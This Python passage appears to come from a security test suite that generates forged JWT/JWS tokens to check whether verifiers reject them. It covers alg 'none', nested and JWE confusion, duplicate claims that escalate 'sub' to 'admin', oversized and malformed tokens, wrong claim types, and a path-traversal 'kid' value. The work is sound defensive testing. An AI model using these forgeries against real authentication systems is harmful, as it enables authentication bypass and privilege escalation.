                # Signed the RFC 7797 way, over the payload as is: right for a verifier that supports b64.
                signed = raw.encode() if shape == "unencoded" else t.payload_bytes
                signature = _b64(_sign(t.alg, b.signing_key, f"{head}.".encode() + signed))
                yield Forgery(f"{detail}-{shape}-resigned", "b64-false", reference, f"{head}.{payload}.{signature}")


def _jwe_and_nested(b: _Battery) -> Iterator[Forgery]:
    """Five-segment JWE shapes (RFC 7516 section 9) and a token nested in another (RFC 7519 section 5.2)."""
    t = b.original
    reference = "RFC 7516 section 9; RFC 8725 section 3.12"
    filler = _b64(_seed("jwe", 16))
    jwe_headers = {
        "dir": {"alg": "dir", "enc": "A256GCM"},
        "rsa-oaep": {"alg": "RSA-OAEP-256", "enc": "A256GCM"},
        "none": {"alg": "none", "enc": "A256GCM"},
        "zip": {"alg": "dir", "enc": "A256GCM", "zip": "DEF"},  # the "JWT bomb" shape, CVE-2024-33664
    }
    for detail, header in jwe_headers.items():
        token = f"{_b64(_json(header))}.{filler}.{filler}.{t.payload_b64}.{filler}"
        yield Forgery(f"jwe-{detail}", "jwe-confusion", reference, token)
    yield Forgery("jwe-original-segments", "jwe-confusion", reference, f"{t.text}.{filler}.{filler}")

    reference = "RFC 7519 section 5.2; RFC 8725 section 2.8"
    inner = t.text.encode()
    outer = {"alg": "none", "cty": "JWT"}
    yield Forgery("nested-outer-none", "nested-jwt", reference, f"{_b64(_json(outer))}.{_b64(inner)}.")
    key = _attacker_key(t.alg)
    yield Forgery(
        "nested-outer-attacker-signed", "nested-jwt", reference, _signed({**t.header, "cty": "JWT"}, inner, t.alg, key)
    )
    yield b.kept("nested-outer-original-signature", "nested-jwt", reference, t.header_with(cty="JWT"), inner)
    # A genuine outer signature over an unsigned inner token carrying the attacker's claims.
    admin = f"{_b64(_json({'alg': 'none'}))}.{_b64(_json({**b.claims, 'sub': 'admin'}))}."
    yield from b.both("nested-inner-none", "nested-jwt", reference, t.header_with(cty="JWT"), admin.encode())


def _oversized(b: _Battery) -> Iterator[Forgery]:
    """Tokens that cost a careless parser memory or stack: 64 KiB members, 20,000-deep nesting (CWE-400)."""
    reference = "CWE-400; RFC 8725 section 3.1"
    t = b.original
    pad = "A" * 65536
    yield b.kept("oversized-header", "oversized", reference, t.header_with(**{"x-pad": pad}), t.payload_bytes)
    yield b.kept("oversized-payload", "oversized", reference, t.header, _json({**b.claims, "x-pad": pad}))
    yield Forgery("oversized-signature", "oversized", reference, f"{t.signing_input}.{_b64(bytes(49152))}")
    deep = "[" * 20000 + "]" * 20000
    yield from b.both(
        "deeply-nested-header", "oversized", reference, _with_raw_member(t.header, "x", deep), t.payload_bytes
    )
    yield from b.both("deeply-nested-payload", "oversized", reference, t.header, _with_raw_member(b.claims, "x", deep))


def _duplicate_members(b: _Battery) -> Iterator[Forgery]:
    """Duplicate JSON member names: parsers disagree on which wins (RFC 7515 section 5.2, RFC 8259 section 4)."""
    reference = "RFC 7515 section 5.2; RFC 8259 section 4"
    t = b.original
    headers = {
        "alg-none-first": b'{"alg":"none",' + _json(t.header)[1:],
        "alg-none-last": _json(t.header)[:-1] + b',"alg":"none"}',
        "alg-hs256-last": _json(t.header)[:-1] + b',"alg":"HS256"}',
        "kid-last": _json(t.header)[:-1] + b',"kid":"../../../../dev/null"}',
    }
    for detail, header in headers.items():
        yield b.kept(f"duplicate-header-{detail}", "duplicate-members", reference, header, t.payload_bytes)
    if t.payload is None:
        return
    claims = _json(b.claims)[:-1]
    duplicates = {
        "sub": b',"sub":"admin"}',
        "exp": f',"exp":{_FAR_FUTURE}}}'.encode(),
        "aud": b',"aud":"https://attacker.invalid"}',
        "iss": b',"iss":"https://attacker.invalid"}',
        "role": b',"role":"user","role":"admin"}',
    }
    for detail, tail in duplicates.items():
        yield b.kept(f"duplicate-claim-{detail}", "duplicate-members", reference, t.header, claims + tail)
    first = b'{"sub":"admin",' + _json(b.claims)[1:]
    yield b.kept("duplicate-claim-sub-first", "duplicate-members", reference, t.header, first)


_B64_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _non_canonical(segment: str) -> str | None:
    """`segment` with its last character's unused low bits changed: the same bytes to a lenient decoder."""
    unused = {2: 4, 3: 2}.get(len(segment) % 4)
    if unused is None:
        return None
    index = _B64_ALPHABET.index(segment[-1])
    return segment[:-1] + _B64_ALPHABET[index ^ 1]


def _non_canonical_base64(b: _Battery) -> Iterator[Forgery]:
    """Base64url that only a lenient decoder takes: padding, the +/ alphabet, unused bits set (RFC 7515 s. 2)."""
    reference = "RFC 7515 section 2; RFC 4648 section 3.5"
    t = b.original
    segments = {"header": t.header_b64, "payload": t.payload_b64, "signature": t.signature_b64}

    def replaced(which: str, value: str) -> str:
        return ".".join(value if name == which else segment for name, segment in segments.items())

    for which, segment in segments.items():
        padded = segment + "=" * (-len(segment) % 4)
        yield Forgery(f"base64-padded-{which}", "non-canonical-base64", reference, replaced(which, padded))
        yield Forgery(
            f"base64-extra-padding-{which}", "non-canonical-base64", reference, replaced(which, padded + "==")
        )
        standard = segment.replace("-", "+").replace("_", "/")
        yield Forgery(f"base64-standard-alphabet-{which}", "non-canonical-base64", reference, replaced(which, standard))
        trailing = _non_canonical(segment)
        if trailing is not None:
            yield Forgery(f"base64-trailing-bits-{which}", "non-canonical-base64", reference, replaced(which, trailing))
        yield Forgery(
            f"base64-percent-encoded-{which}",
            "non-canonical-base64",
            reference,
            replaced(which, segment.replace("-", "%2D").replace("_", "%5F") + "%3D"),
        )
    padded_all = ".".join(s + "=" * (-len(s) % 4) for s in segments.values())
    yield Forgery("base64-padded-all", "non-canonical-base64", reference, padded_all)


def _malformed_compact(b: _Battery) -> Iterator[Forgery]:
    """The compact serialization bent out of shape: segment counts, empty segments, stray dots and blanks."""
    reference = "RFC 7515 section 7.1; RFC 7519 section 7.2"
    t = b.original
    h, p, s = t.header_b64, t.payload_b64, t.signature_b64
    shapes = {
        "four-segments": f"{h}.{p}.{s}.{s}",
        "four-segments-empty-last": f"{h}.{p}.{s}.",
        "leading-dot": f".{h}.{p}.{s}",
        "double-dot": f"{h}..{p}.{s}",
        "empty-header": f".{p}.{s}",
        "empty-payload": f"{h}..{s}",
        "only-dots": "..",
        "one-segment": h,
        "header-only": f"{h}.",
        "space-after-dot": f"{h}. {p}.{s}",
        "space-before-dot": f"{h} .{p}.{s}",
        "tab-inside": f"{h}.{p}\t.{s}",
        "newline-inside": f"{h}.{p}\n.{s}",
        "space-inside-signature": f"{h}.{p}.{s[:8]} {s[8:]}",
        "leading-newline": f"\n{t.text}",
        "trailing-newline": f"{t.text}\n",
        "trailing-nul": f"{t.text}\x00",
        "comma-separated": f"{t.text},{t.text}",
        "twice": f"{t.text} {t.text}",
        "header-and-signature-swapped": f"{s}.{p}.{h}",
    }
    for detail, token in shapes.items():
        yield Forgery(f"compact-{detail}", "malformed-compact", reference, token)


# Raw JSON values for every registered claim, each wrong in type or not JSON at all. Valid-looking extremes
# (exp = 1e30) are only kept under the original signature: RFC 7519 allows any JSON number as a NumericDate.
_NUMERIC_DATE_JUNK = {
    "string": '"9999999999"',
    "bool": "true",
    "null": "null",
    "list": "[9999999999]",
    "object": '{"$date":9999999999}',
    "nan": "NaN",
    "infinity": "Infinity",
    "minus-infinity": "-Infinity",
}
_NUMERIC_DATE_EXTREMES = {"1e30": "1e30", "bigint": "1" + "0" * 400, "negative": "-1", "fraction": "0.5"}
_STRING_JUNK = {"number": "1", "null": "null", "list": '["admin"]', "object": '{"sub":"admin"}', "bool": "true"}
_AUD_JUNK = {"number": "1", "list-with-number": "[1]", "empty-list": "[]", "null": "null", "object": "{}"}
_CLAIM_JUNK: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    # claim: (must be rejected even when genuinely signed, only kept under the original signature)
    "exp": (_NUMERIC_DATE_JUNK, _NUMERIC_DATE_EXTREMES),
    "nbf": (_NUMERIC_DATE_JUNK | {"1e30": "1e30", "bigint": _NUMERIC_DATE_EXTREMES["bigint"]}, {}),
    "iat": (_NUMERIC_DATE_JUNK, _NUMERIC_DATE_EXTREMES),
    "iss": (_STRING_JUNK, {}),
    "sub": (_STRING_JUNK, {}),
    "jti": (_STRING_JUNK, {}),
    "aud": (_AUD_JUNK, {}),
}


def _claim_types(b: _Battery) -> Iterator[Forgery]:
    """Every registered claim with a value of the wrong JSON type (RFC 7519 section 4.1)."""
    if b.original.payload is None:
        return
    reference = "RFC 7519 section 4.1; RFC 8259 section 6"
    header = b.original.header
    for claim, (invalid, extremes) in _CLAIM_JUNK.items():
        for detail, raw in invalid.items():
            payload = _with_raw_member(b.claims, claim, raw)
            yield from b.both(f"claim-{claim}-{detail}", "claim-type", reference, header, payload)
        for detail, raw in extremes.items():
            yield b.kept(
                f"claim-{claim}-{detail}", "claim-type", reference, header, _with_raw_member(b.claims, claim, raw)
            )


def _not_json_objects(b: _Battery) -> Iterator[Forgery]:
    """A header or claims set that is JSON but not an object, or not JSON (RFC 7515 s. 4, RFC 7519 s. 7.2)."""
    reference = "RFC 7515 section 4; RFC 7519 section 7.2"
    t = b.original
    shapes: dict[str, Callable[[dict[str, Any]], bytes]] = {
        "array": lambda obj: _json([obj]),
        "string": lambda obj: _json(json.dumps(obj)),
        "number": lambda obj: b"1",
        "null": lambda obj: b"null",
        "true": lambda obj: b"true",
        "empty": lambda obj: b"",
        "truncated": lambda obj: _json(obj)[:-1],
        "trailing-garbage": lambda obj: _json(obj) + b"x",
        "two-objects": lambda obj: _json(obj) + _json(obj),
        "single-quoted": lambda obj: _json(obj).replace(b'"', b"'"),
    }
    for detail, shape in shapes.items():
        yield from b.both(f"header-{detail}", "not-a-json-object", reference, shape(t.header), t.payload_bytes)
        if t.payload is not None:
            yield from b.both(f"payload-{detail}", "not-a-json-object", reference, t.header, shape(t.payload))


_ENCODINGS: dict[str, Callable[[str], bytes]] = {
    "utf-16": lambda text: text.encode("utf-16"),  # with a byte order mark
    "utf-16-be": lambda text: text.encode("utf-16-be"),
    "utf-32": lambda text: text.encode("utf-32"),
    "utf-8-bom": lambda text: b"\xef\xbb\xbf" + text.encode(),
    "latin-1-byte": lambda text: text[:-1].encode() + ',"x":"\xff"}'.encode("latin-1"),
    "overlong-utf-8": lambda text: text[:-1].encode() + b',"x":"\xc0\xaf"}',
    "cesu-surrogate": lambda text: text[:-1].encode() + b',"x":"\xed\xa0\x80"}',
}


def _json_encoding(b: _Battery) -> Iterator[Forgery]:
    """JSON that is not UTF-8 (RFC 8259 section 8.1), and a lone surrogate escape (RFC 8259 section 8.2)."""
    reference = "RFC 8259 section 8.1; RFC 7515 section 5.2"
    t = b.original
    header_text = _json(t.header).decode()
    for detail, encode in _ENCODINGS.items():
        yield from b.both(f"header-{detail}", "json-encoding", reference, encode(header_text), t.payload_bytes)
        if t.payload is not None:
            yield from b.both(
                f"payload-{detail}", "json-encoding", reference, t.header, encode(_json(t.payload).decode())
            )
    if t.payload is not None:
        # "\ud800" is grammatical JSON but no Unicode string (RFC 7493 section 2.1 forbids it); it crashes
        # apps that later encode the claim, so it must not reach them. Signed, it is policy, so not re-signed.
        reference = "RFC 8259 section 8.2; RFC 7493 section 2.1"
        for claim in ("sub", "iss", "x"):
            payload = _with_raw_member(b.claims, claim, '"admin\\ud800"')
            yield b.kept(f"lone-surrogate-{claim}", "json-encoding", reference, t.header, payload)


_GENERATORS: tuple[Callable[[_Battery], Iterator[Forgery]], ...] = (
    _alg_none,
    _algorithm_confusion,
    _psychic_signature,
    _signature_tampering,
    _claims_tampering,
    _header_tampering,
    _weak_hmac_secret,
    _kid_injection,
    _embedded_keys,
    _crit_and_b64,
    _jwe_and_nested,
    _oversized,
    _duplicate_members,
    _non_canonical_base64,
    _malformed_compact,
    _claim_types,
    _not_json_objects,
    _json_encoding,
)
